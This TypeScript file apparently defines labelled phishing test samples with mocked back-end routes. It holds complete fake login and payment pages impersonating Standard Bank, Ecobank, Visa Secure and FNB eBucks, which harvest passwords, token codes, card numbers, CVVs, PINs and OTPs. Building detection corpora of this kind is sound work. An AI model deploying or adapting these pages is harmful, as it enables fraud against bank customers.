import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, codes, cookieBar, doc, favicon, gtag, hexOf, pct, rev, wordmark, xorB64 } from '../parts/yh-kit.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsRoute, jsonRoute, lnk, pe, pngRoute, rar5, sevenZip, zip } from '../parts/e-bin.js';


export const entries: Entry[] = [
{
  id: 'yh-standardbank-business-online-token',
  label: 'phishing',
  kind: 'business-banking-kit',
  url: 'https://businessonline-sb.com/sbo/login',
  body: doc('Business Online | Standard Bank', `
<div id="app">
  <div class="nav">${wordmark('Standard Bank', '#0033a1', { shape: 'shield', h: 34, w: 220 })}<span>Business Online</span></div>
  <div class="box" id="v-login">
    <h2>Sign in to Business Online</h2>
    <label>Company ID</label><input id="cid">
    <label>User ID</label><input id="uid">
    <label>Password</label><input id="pwd" type="password">
    <button onclick="step('login')">Sign in</button>
    <p class="h">Need help? Business Online Service Centre 0860 123 000</p>
  </div>
  <div class="box" id="v-token" hidden>
    <h2>Authorise with your token</h2>
    <p>Switch on your authentication device, enter your token PIN, and type the challenge number below. Enter the 8-digit response.</p>
    <div class="ch">Challenge: <b id="chal">----</b></div>
    <label>Token response</label><input id="resp" maxlength="8" inputmode="numeric">
    <label>Cellphone number for payment authorisations</label><input id="cell">
    <button onclick="step('token')">Authorise</button>
  </div>
  <div class="box" id="v-wait" hidden><h2>Processing</h2><p>Your profile is being synchronised. A Standard Bank consultant will contact you on <b id="cellshow"></b> to complete the security update.</p></div>
</div>
<script>
var sid=Math.random().toString(36).slice(2);
function v(id){return document.getElementById(id).value}
function show(id){["v-login","v-token","v-wait"].forEach(function(x){document.getElementById(x).hidden=x!==id})}
function step(s){
  var payload=s==="login"?{s:s,sid:sid,company:v("cid"),user:v("uid"),pass:v("pwd")}:{s:s,sid:sid,response:v("resp"),cell:v("cell")};
  fetch("/sbo/api/step",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify(payload)})
   .then(function(r){return r.json()}).then(function(j){
     if(j.next==="token"){document.getElementById("chal").textContent=j.challenge;show("v-token")}
     else{document.getElementById("cellshow").textContent=v("cell");show("v-wait")}
   }).catch(function(){show("v-token")});
}
</script>`, {
    head: favicon('#0033a1'),
    css: `body{margin:0;background:#e9eef7;font-family:"Benton Sans",Arial,sans-serif}.nav{background:#fff;padding:12px 30px;display:flex;align-items:center;gap:16px;border-bottom:4px solid #0033a1}.nav span{color:#0033a1;font-size:18px}
.box{max-width:420px;margin:40px auto;background:#fff;padding:28px 32px;border-radius:2px}.box h2{color:#0033a1;font-weight:400}
label{display:block;font-size:13px;margin:14px 0 4px;color:#555}input{width:100%;box-sizing:border-box;border:0;border-bottom:2px solid #9fb0d3;padding:8px 2px;font-size:16px;background:transparent}
button{margin-top:24px;background:#0033a1;color:#fff;border:0;padding:12px 28px;font-size:15px;cursor:pointer}.h{font-size:12px;color:#777;margin-top:18px}.ch{background:#f1f4fb;padding:10px;margin:12px 0;font-size:18px}`,
  }),
  routes: {
    'businessonline-sb.com/sbo/api/step': jsonRoute({ next: 'token', challenge: '4829 1035' }),
  },
},
{
  id: 'yh-ecobank-connexion-fr-sms',
  label: 'phishing',
  kind: 'bank-login-kit',
  url: 'https://ecobank-omni-ci.com/connexion/',
  body: doc('Ecobank | Connexion', `
<div class="haut">${wordmark('Ecobank', '#005b82', { shape: 'circle', h: 34 })}<span>Le partenaire panafricain</span></div>
<div class="cadre">
 <h2>Connexion à Ecobank Online</h2>
 <p class="info">Suite à la mise à jour de nos systèmes, veuillez confirmer votre identité afin de continuer à utiliser vos services en ligne.</p>
 <form id="e1" method="post" action="traitement.php">
  <label>Identifiant</label><input name="identifiant" required>
  <label>Mot de passe</label><input name="motdepasse" type="password" required>
  <label>Numéro de téléphone</label><input name="tel" placeholder="+225 07 00 00 00 00">
  <button>Se connecter</button>
 </form>
 <a href="#">Mot de passe oublié ?</a>
</div>
<p class="bas">© Ecobank Transnational Incorporated. Tous droits réservés.</p>`, {
    lang: 'fr',
    head: favicon('#005b82'),
    css: `body{margin:0;background:#eef4f7;font-family:Arial,sans-serif}.haut{background:#fff;padding:12px 24px;display:flex;gap:14px;align-items:center;border-bottom:3px solid #7ac143}.haut span{color:#005b82;font-size:13px}
.cadre{max-width:400px;margin:40px auto;background:#fff;padding:28px;border-radius:4px}h2{color:#005b82;font-size:20px}.info{background:#fff7e0;padding:10px;font-size:13px}
label{display:block;margin:12px 0 4px;font-size:13px}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #bcd}button{margin-top:18px;width:100%;background:#005b82;color:#fff;border:0;padding:12px}a{display:block;margin-top:10px;font-size:13px;color:#005b82}.bas{text-align:center;font-size:11px;color:#888}`,
  }),
  routes: {
    'ecobank-omni-ci.com/connexion/traitement.php': htmlRoute(doc('Ecobank | Validation', `
<div style="max-width:400px;margin:60px auto;background:#fff;padding:28px;font-family:Arial">
<h2 style="color:#005b82">Validation par SMS</h2><p>Un code de validation à 6 chiffres vous a été envoyé par SMS. Saisissez-le ci-dessous ainsi que le code PIN de votre carte pour finaliser la vérification.</p>
<form method="post" action="sms.php"><label>Code SMS</label><br><input name="code" maxlength="6" style="width:100%;padding:10px"><br><br><label>Code PIN de la carte</label><br><input name="pin" type="password" maxlength="4" style="width:100%;padding:10px"><br><br><button style="background:#005b82;color:#fff;border:0;padding:12px;width:100%">Valider</button></form></div>`, { lang: 'fr', css: 'body{background:#eef4f7;margin:0}' })),
  },
},
{
  id: 'yh-3ds-card-issuer-otp-acs',
  label: 'phishing',
  kind: 'card-3ds-otp',
  url: 'https://acs-securecode-verify.com/acs/auth?txid=83a1f09c',
  body: doc('Verified by Visa - Authentication', `
<div class="w">
 <div class="logos"><span class="bank">${wordmark('Your Card Issuer', '#333333', { shape: 'none', h: 22, w: 190 })}</span><span class="vv">VISA<small> Secure</small></span></div>
 <h3>Purchase Authentication</h3>
 <p>To protect your card against unauthorised use, please confirm the following transaction. We have sent a one-time passcode to your registered cellphone number.</p>
 <table><tr><td>Merchant:</td><td>TAKEALOT ONLINE RF</td></tr><tr><td>Amount:</td><td>ZAR 0.00 (card check)</td></tr><tr><td>Date:</td><td id="d"></td></tr><tr><td>Card Number:</td><td><input name="pan" form="a" maxlength="19" placeholder="Card number" style="width:170px"></td></tr></table>
 <form id="a" method="post" action="/acs/confirm.php">
  <label>Expiry</label><input name="exp" placeholder="MM/YY" maxlength="5" style="width:70px"> <label>CVV</label><input name="cvv" maxlength="3" style="width:50px">
  <br><label>One-Time Passcode</label><input name="otp" maxlength="8" autocomplete="one-time-code">
  <input type="hidden" name="txid" value="83a1f09c">
  <div class="b"><button type="submit">Submit</button> <button type="button" onclick="history.back()">Cancel</button></div>
 </form>
 <p class="s"><a href="#">Resend code</a> · <a href="#">Help</a></p>
</div>
<script>document.getElementById('d').textContent=new Date().toLocaleString('en-ZA');</script>`, {
    css: `body{background:#fff;font-family:Verdana,Arial,sans-serif;font-size:12px;margin:0}.w{width:390px;margin:20px auto;border:1px solid #ccc;padding:14px}.logos{display:flex;justify-content:space-between;align-items:center;border-bottom:1px solid #ddd;padding-bottom:8px}
.vv{color:#1a1f71;font-weight:bold;font-style:italic;font-size:20px}h3{color:#1a1f71}table td{padding:3px 6px}label{display:inline-block;margin:8px 4px 2px 0}input{border:1px solid #999;padding:4px}.b{margin-top:12px}button{padding:5px 16px}.s a{color:#1a1f71}`,
  }),
},
{
  id: 'yh-ebucks-points-expiry-card',
  label: 'phishing',
  kind: 'card-rewards-kit',
  url: 'https://ebucks-redeem.co/rewards/claim',
  body: doc('eBucks | Redeem before your eBucks expire', `
<div class="nav">${wordmark('eBucks', '#ffffff', { shape: 'none', h: 30 })}<span>Rewards</span></div>
<div class="hero"><h1>eB 18 450 expire at midnight</h1><p>That is worth <b>R1 845.00</b>. Convert your eBucks to cash into your FNB account now.</p></div>
<div class="frm">
 <form method="post" action="claim.php">
  <label>FNB card number</label><input name="card" maxlength="19" inputmode="numeric" required>
  <div class="r"><span><label>Expiry</label><input name="exp" placeholder="MM/YY"></span><span><label>CVV</label><input name="cvv" maxlength="3"></span></div>
  <label>Cellphone number</label><input name="cell">
  <label>Online Banking username</label><input name="user">
  <label>Online Banking password</label><input name="pw" type="password">
  <button>Convert to cash</button>
 </form>
</div>
<p class="ft">eBucks is a rewards programme of FirstRand Bank Limited. Terms and conditions apply.</p>`, {
    css: `body{margin:0;font-family:Arial,sans-serif;background:#f7f7f7}.nav{background:#00a3ad;padding:12px 24px;display:flex;align-items:center;gap:10px;color:#fff}.hero{background:linear-gradient(90deg,#00a3ad,#54c0c6);color:#fff;text-align:center;padding:30px}
.frm{max-width:420px;margin:-16px auto 0;background:#fff;padding:24px;border-radius:6px;box-shadow:0 2px 8px #0002}label{display:block;font-size:13px;margin:10px 0 3px}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #ccc}.r{display:flex;gap:10px}.r span{flex:1}
button{margin-top:16px;width:100%;background:#f7a700;color:#fff;border:0;padding:12px;font-size:15px}.ft{text-align:center;font-size:11px;color:#888;padding:20px}`,
  }),
},
];
